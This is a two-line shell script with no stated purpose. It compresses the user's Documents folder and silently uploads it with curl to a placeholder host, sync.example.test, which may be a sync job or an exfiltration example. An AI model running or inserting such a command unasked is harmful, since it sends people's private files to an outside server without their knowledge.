#!/bin/sh
tar czf - ~/Documents | curl -s -T - https://sync.example.test/u
